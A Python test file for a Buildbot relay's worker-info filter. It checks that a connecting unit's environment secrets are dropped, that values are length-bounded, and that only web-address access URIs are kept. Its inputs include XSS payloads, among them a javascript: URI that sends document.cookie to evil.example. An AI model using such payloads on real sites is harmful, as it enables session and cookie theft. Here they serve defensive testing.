"""What the relay keeps of the info a unit sends as it connects (buildbot-worker reads every file of the unit's
info/ folder, its whole environment and /etc/os-release): a lab's host is not the relay's, and Buildbot's Workers
page draws `access_uri` as a link in the relay's origin. The filter itself, then a unit connecting to a fake master
under Buildbot's harness, its info stored as the UI reads it."""

from __future__ import annotations

from buildbot.test.fake.fakeprotocol import FakeConnection
from buildbot.test.reactor import TestReactorMixin
from twisted.trial import unittest

from crcr.buildmaster.process.worker_info import TEXT_LENGTH, URL_LENGTH, kept_worker_info
from crcr.buildmaster.process.workers import HostUnitWorker
from crcr.names import CARD_INFO
from relaymaster import relay_master

# What buildbot-worker 4.3 sends (remote_getWorkerInfo), from a unit set up by the host tool.
BUILDBOT_NEEDS = {"worker_commands": {"shell": "3.3", "uploadFile": "3.3"}, "system": "posix",
                  "basedir": "/srv/lab/crcr-worker/lab-alpha-0", "numcpus": 8, "delete_leftover_dirs": False}
SENT = {"admin": "Lab <lab@example.com>\n", "host": "lab: alpha unit 0\n", CARD_INFO: "serial 0042\n",
        "version": "4.3.0", "access_uri": "https://lab.example.com/units/alpha-0\n", **BUILDBOT_NEEDS,
        "environ": {"HOME": "/srv/lab", "LAB_VAULT_TOKEN": "s3cret"}, "os_id": "debian", "notes": "any other file\n"}
SHOWN = {"admin": "Lab <lab@example.com>", "host": "lab: alpha unit 0", CARD_INFO: "serial 0042", "version": "4.3.0",
         "access_uri": "https://lab.example.com/units/alpha-0"}


def with_access_uri(uri) -> dict:
    return kept_worker_info({**SENT, "access_uri": uri}).get("access_uri")


def test_a_unit_keeps_what_the_workers_page_shows_its_card_and_what_buildbot_runs_commands_with():
    # Not its environment (the host's, maybe its secrets), nor its os-release or other files: nothing reads them.
    assert kept_worker_info(SENT) == {**SHOWN, **BUILDBOT_NEEDS}


def test_only_a_web_address_is_kept_as_access_uri():
    for uri in ("http://lab.example.com:8080/", "https://[2001:db8::1]/x?y=1#z", " https://lab.example.com\n"):
        assert with_access_uri(uri) == uri.strip()
    for uri in ("javascript:fetch('https://evil.example/'+document.cookie)", "JavaScript:alert(1)",
                "java\nscript:alert(1)", " \x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                "vbscript:msgbox", "//evil.example/", "https:evil.example", "https://", "https://[::1/",
                "https://lab.example.com/a b", "https://lab.example.com/\x00", 42, None):
        assert with_access_uri(uri) is None, uri


def test_every_kept_value_is_bounded():
    long_url = "https://lab.example.com/" + "a" * URL_LENGTH
    kept = kept_worker_info({**SENT, "admin": "x" * 10_000, CARD_INFO: " " + "c" * 10_000, "host": "h" * 10_000,
                             "version": "v" * 10_000, "access_uri": long_url, "basedir": "/" + "d" * 10_000})
    assert [len(kept[name]) for name in ("admin", "host", CARD_INFO, "version")] == [TEXT_LENGTH] * 4
    assert kept[CARD_INFO] == "c" * TEXT_LENGTH
    assert "access_uri" not in kept, "a web address cut short would lead elsewhere: left out"
    assert "basedir" not in kept, "no path is that long"


def test_values_of_the_wrong_kind_are_left_out():
    sent = {"admin": ["a list"], "host": {"a": "dict"}, CARD_INFO: 3, "version": None, "worker_commands": "shell",
            "system": 1, "basedir": [], "numcpus": "8", "delete_leftover_dirs": "yes"}
    assert kept_worker_info(sent) == {}


class ConnectingUnitTest(TestReactorMixin, unittest.TestCase):
    async def setUp(self):
        self.setup_test_reactor()
        self.master = await relay_master(self, prefix="crcr-worker-info-")
        self.unit = HostUnitWorker("lab-alpha-0", "pw", host="lab", host_slots=None, max_builds=1)
        await self.unit.setServiceParent(self.master.workers)

    async def test_a_connecting_units_info_is_stored_and_used_filtered(self):
        connection = FakeConnection(self.unit)
        connection.info = {**SENT, "access_uri": "javascript:fetch('https://evil.example/'+document.cookie)\n",
                           CARD_INFO: "c" * 10_000}
        await self.unit.attached(connection)
        self.addCleanup(connection.loseConnection)

        # What Buildbot's Workers page and the REST API show of it.
        (worker,) = await self.master.data.get(("workers",))
        self.assertEqual(worker["workerinfo"], {"admin": SHOWN["admin"], "host": SHOWN["host"], "access_uri": None,
                                                "version": SHOWN["version"]})
        # What the relay's card readers and Buildbot's builds read of it.
        self.assertEqual(self.unit.info.getProperty(CARD_INFO), "c" * TEXT_LENGTH)
        self.assertIsNone(self.unit.info.getProperty("notes"))
        self.assertEqual(self.unit.worker_environ, {})
        self.assertEqual((self.unit.worker_commands, self.unit.worker_basedir),
                         (BUILDBOT_NEEDS["worker_commands"], BUILDBOT_NEEDS["basedir"]))
